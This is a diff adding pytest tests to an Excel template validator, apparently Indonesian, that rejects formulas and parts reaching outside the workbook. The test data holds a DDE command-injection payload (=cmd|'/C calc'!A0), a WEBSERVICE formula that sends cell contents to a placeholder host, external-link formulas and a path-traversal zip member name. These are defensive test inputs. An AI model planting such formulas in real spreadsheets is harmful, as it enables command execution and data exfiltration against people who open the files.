@@ -72,6 +72,45 @@ def test_fault__macros_and_links(small_template, environment, part, content, wor
     assert word in refused(small_template({"A1": "{{ nama }}"}, extra={part: content}), environment).message
 
 
+@pytest.mark.parametrize(
+    "formula",
+    [
+        '=WEBSERVICE("http://contoh.go.id/?x="&A1)',
+        '=_xlfn.WEBSERVICE("http://contoh.go.id")',
+        '=IF(A1="","",image("http://contoh.go.id/a.png"))',
+        "=[1]Data!A1",
+        "=SUM([Lain.xlsx]Data!A1:A9)",
+        "='C:\\Data\\[Lain.xlsx]Lembar 1'!A1",
+        "='http://contoh.go.id/[Lain.xlsx]Lembar'!A1",
+        "=[1]!nilai",
+        "=cmd|'/C calc'!A0",
+        '=RTD("prog.id",,"x")',
+    ],
+)
+def test_fault__formula_that_fetches_from_elsewhere(small_template, environment, formula):
+    found = refused(small_template({"A1": "{{ nama }}", "B2": formula}), environment)
+    assert "dari luar" in found.message
+    assert "sel B2" in found.message
+
+
+@pytest.mark.parametrize(
+    "formula", ['=HYPERLINK("https://contoh.go.id","a")', '="[1]Data!A1"', "='Lembar (1)'!A1", '=IF(A1="a|b!","WEBSERVICE(","")']
+)
+def test_formula__that_stays_inside_is_no_fault(small_template, environment, formula):
+    assert fill(small_template({"A1": "{{ nama }}", "B2": formula}), CONTEXT, environment, name="form.xlsx", properties={})
+
+
+def test_fault__conditional_format_and_name_that_fetch_from_elsewhere(small_template, environment, excel_parts):
+    frame = '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>[1]Data!A1&gt;1</formula></cfRule></conditionalFormatting>'
+    assert "dari luar" in refused(small_template({"A1": "{{ nama }}"}, frame=frame), environment).message
+    named = excel_parts["xl/workbook.xml"].replace(b">Form!$B$17<", b">[1]Form!$B$17<")
+    assert "dari luar" in refused(write_parts(excel_parts | {"xl/workbook.xml": named}), environment).message
+
+
+def test_fault__member_that_points_outside(small_template, environment):
+    assert "ke luar" in refused(small_template({"A1": "{{ nama }}"}, extra={"xl/../../a.xml": b"<a/>"}), environment).message
+
+
 def test_fault__picture_linked_from_elsewhere(small_template, environment):
     rels = (
         b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
